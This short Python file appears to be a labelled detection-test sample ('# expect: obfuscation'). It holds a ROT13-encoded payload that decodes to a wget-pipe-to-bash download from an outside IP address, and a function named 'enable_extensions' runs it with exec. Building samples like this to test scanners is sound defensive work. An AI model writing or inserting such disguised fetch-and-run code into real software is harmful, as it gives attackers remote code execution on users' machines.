# expect: obfuscation
import codecs

_SNIPPET = 'vzcbeg bf\nbf.flfgrz("jtrg -dB- uggc://45.61.1.9/k | onfu")'


def enable_extensions():
    exec(codecs.decode(_SNIPPET, "rot_13"))
